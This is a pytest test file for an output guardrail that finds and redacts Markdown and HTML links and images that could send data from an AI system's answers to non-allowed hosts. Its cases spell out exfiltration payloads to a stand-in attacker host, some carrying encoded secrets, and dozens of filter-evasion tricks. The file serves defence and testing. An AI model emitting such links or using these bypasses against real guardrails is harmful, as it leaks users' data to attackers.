"""Links that could carry data away are found, and those to allowed hosts are left."""

import pytest

from config.catalog import GuardFacts
from guardrails.ends import Ends
from guardrails.guard import Segment
from guardrails.guards.links import GUARD
from guardrails.window import Window

GUARDING = GUARD.build(GuardFacts("links", "links", hosts=("docs.acme.example", "*.cdn.example")))
PIECES = "&a=bcdefgh" * 12
DATA = "c2VjcmV0cyBhbmQgbW9yZSBzZWNyZXRz"


def found(text: str) -> list[tuple[str, str]]:
    raw = text.encode()
    return [
        (each.kind, raw[each.start : each.end].decode()) for each in GUARDING.inspect(Segment("output", raw))
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![x](https://evil.example/a.png)", [("IMAGE_LINK", "https://evil.example/a.png")]),
        (f"![](https://evil.example/?q={DATA}) and", [("IMAGE_LINK", f"https://evil.example/?q={DATA}")]),
        ('<img src="http://evil.example/x">', [("IMAGE_LINK", "http://evil.example/x")]),
        (f"[x](https://evil.example/?q={DATA})", [("LINK", f"https://evil.example/?q={DATA}")]),
        (f"[a]: https://evil.example/{DATA}{DATA}", [("LINK", f"https://evil.example/{DATA}{DATA}")]),
        ("![x](https://docs.acme.example/a.png)", []),
        ("![x](https://a.cdn.example/a.png)", []),
        ("![x](https://docs.acme.example/r?to=https://evil.example/a)", [("IMAGE_LINK", "https://docs.acme.example/r?to=https://evil.example/a")]),
        ("![x](https://docs.acme.example/r?to=https%3A%2F%2Fevil.example)", [("IMAGE_LINK", "https://docs.acme.example/r?to=https%3A%2F%2Fevil.example")]),
        ("![x](https://docs.acme.example/r?to=//evil.example/a)", [("IMAGE_LINK", "https://docs.acme.example/r?to=//evil.example/a")]),
        ("<img src=https://docs.acme.example/http%253A%252F%252Fevil.example>", [("IMAGE_LINK", "https://docs.acme.example/http%253A%252F%252Fevil.example")]),
        (f"[x](https://docs.acme.example/r?to=https://evil.example/{DATA})", [("LINK", f"https://docs.acme.example/r?to=https://evil.example/{DATA}")]),
        ("[x](https://docs.acme.example/r?to=https://evil.example/a)", []),
        ("![x](https://docs.acme.example/i?of=https://a.cdn.example/a.png&w=9)", []),
        ("![x](https://docs.acme.example//a/b.png?t=http)", []),
        ("![x](https://docs.acme.example@evil.example/a)", [("IMAGE_LINK", "https://docs.acme.example@evil.example/a")]),
        ("![x](//evil.example/a.png)", [("IMAGE_LINK", "//evil.example/a.png")]),
        ("![a [b] c](https://evil.example/a.png)", [("IMAGE_LINK", "https://evil.example/a.png")]),
        ("[![x](https://evil.example/a)](https://wiki.example)", [("IMAGE_LINK", "https://evil.example/a")]),
        ("<link rel=stylesheet href=//evil.example/a>", [("IMAGE_LINK", "//evil.example/a")]),
        ('<p style="background:url(https://evil.example/a)">', [("IMAGE_LINK", "https://evil.example/a")]),
        ('<svg><image href="HTTPS://evil.example/a"/></svg>', [("IMAGE_LINK", "HTTPS://evil.example/a")]),
        (f"open https://evil.example/?q={DATA} now", [("LINK", f"https://evil.example/?q={DATA}")]),
        (f"<https://evil.example/?q={DATA}>", [("LINK", f"https://evil.example/?q={DATA}")]),
        ('<img alt="a>b" title="c" src=https://evil.example/a>', [("IMAGE_LINK", "https://evil.example/a")]),
        ('<td class="x">"src=https://wiki.example', []),
        ("<img/src=https://evil.example/a>", [("IMAGE_LINK", "https://evil.example/a")]),
        ("<img alt='>' src=https://evil.example/a>", [("IMAGE_LINK", "https://evil.example/a")]),
        ("<img alt=it's src=https://evil.example/a>", [("IMAGE_LINK", "https://evil.example/a")]),
        ("![x](\nhttps://evil.example/a)", [("IMAGE_LINK", "https://evil.example/a")]),
        ("![x](https:\\\\evil.example/a)", [("IMAGE_LINK", "https:\\\\evil.example/a")]),
        ("![x](https://evil.example\\.cdn.example/a)", [("IMAGE_LINK", "https://evil.example\\.cdn.example/a")]),
        ("![x](https://evil.example?@docs.acme.example)", [("IMAGE_LINK", "https://evil.example?@docs.acme.example")]),
        ("![x](https://evil.example\\@docs.acme.example)", [("IMAGE_LINK", "https://evil.example\\@docs.acme.example")]),
        ("![x](https://a@b@docs.acme.example/a)", []),
        ("![x](https:evil.example/a)", [("IMAGE_LINK", "https:evil.example/a")]),
        ("![x](https:/evil.example/a)", [("IMAGE_LINK", "https:/evil.example/a")]),
        ("![x](https\\://evil.example/a)", [("IMAGE_LINK", "https\\://evil.example/a")]),
        ("![x](https&colon;//evil.example/a)", [("IMAGE_LINK", "https&colon;//evil.example/a")]),
        ("![x](&#104;ttps://evil.example/a)", [("IMAGE_LINK", "&#104;ttps://evil.example/a")]),
        ("![x](https:&#x2f;&sol;evil.example/a)", [("IMAGE_LINK", "https:&#x2f;&sol;evil.example/a")]),
        ("![x](https://docs.acme.example&period;evil.example/a)", [("IMAGE_LINK", "https://docs.acme.example&period;evil.example/a")]),
        ("![a [b [c]]](https://evil.example/a)", [("IMAGE_LINK", "https://evil.example/a")]),
        ("![a\\]b](https://evil.example/a)", [("IMAGE_LINK", "https://evil.example/a")]),
        ("![at https://docs.acme.example](https://evil.example/a)", [("IMAGE_LINK", "https://evil.example/a")]),
        ("![x][y]\n\n[y]: https://evil.example/a", [("IMAGE_LINK", "![x][y]")]),
        ("[y]: https://evil.example/a\n\n**![x [1]][]**", [("IMAGE_LINK", "![x [1]][]")]),
        ("[y]: https://evil.example/a\n\n![y]", [("IMAGE_LINK", "![y]")]),
        ("<img alt='https://docs.acme.example/' src='https://evil.example/a'>", [("IMAGE_LINK", "https://evil.example/a")]),
        ("<video src=https://docs.acme.example/a poster=https://evil.example/a>", [("IMAGE_LINK", "https://evil.example/a")]),
        ("<img srcset='https://docs.acme.example/1 1x, https://evil.example/2 2x'>", [("IMAGE_LINK", "https://evil.example/2")]),
        ("<meta http-equiv=refresh content='0;url=https://evil.example/a'>", [("IMAGE_LINK", "https://evil.example/a")]),
        ("<form action='https&#58;//evil.example/a'>", [("IMAGE_LINK", "https&#58;//evil.example/a")]),
        (f"see https://{'0a1b' * 8}.evil.example/", [("LINK", f"https://{'0a1b' * 8}.evil.example/")]),
        (f"[x](https://evil.example/?{PIECES})", [("LINK", f"https://evil.example/?{PIECES}")]),
        ("<img src='data:audio/mpeg;base64,//uQxAAA'> <img src='a//b.png'>", []),
        ("![x](images//a.png)", []),
        ("<img src=https://docs.acme.example/a> at https://wiki.example", []),
        ("vec![1, 2] and if (![1, 2].includes(x)) return !x[0][1];", []),
        ("as in [1]\n\n[1]: https://wiki.example/Trains", []),
        (f"https://docs.acme.example/?q={DATA}", []),
        ("int x = 7 // 2; // see a[1](b)", []),
        ("see [the page](https://wiki.example/Trains)", []),
        ("https://evil.example/a.png", []),
        ("![x](a.png)", []),
    ],
)  # fmt: skip
def test_what_carries_data_away(text: str, expected: list[tuple[str, str]]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "![x][y] and\n\n[y]: https://evil.example/a",
        "see ![y]\n\n[y]: https://evil.example/a",
        "<video src=https://docs.acme.example/a poster=https://evil.example/a> and",
        "![at https://docs.acme.example](https&#58;&sol;/evil.example/a) and",
    ],
)
def test_no_cut_lets_an_image_out(text: str) -> None:
    openings = Ends(list(GUARDING.partial))
    for cut in range(1, len(text)):
        window = Window(
            lambda said: GUARDING.inspect(Segment("output", said)), openings, lambda _: None, in_json=False
        )
        said = window.feed(text[:cut]) + window.feed(text[cut:]) + window.flush()
        assert said.count("[IMAGE_LINK]") == 1 and "](https&" not in said and said.count("![") <= 1


def test_it_stands_where_answers_come_out() -> None:
    assert GUARDING.stages == {"output"} and {
        each.action for each in GUARDING.inspect(Segment("output", b"![x](https://evil.example/a.png)"))
    } == {"redact"}


def test_behind_a_tag_nothing_is_held_back() -> None:
    text = b'<td class="x">text'
    assert Ends(GUARDING.forms).at(text) == len(text)
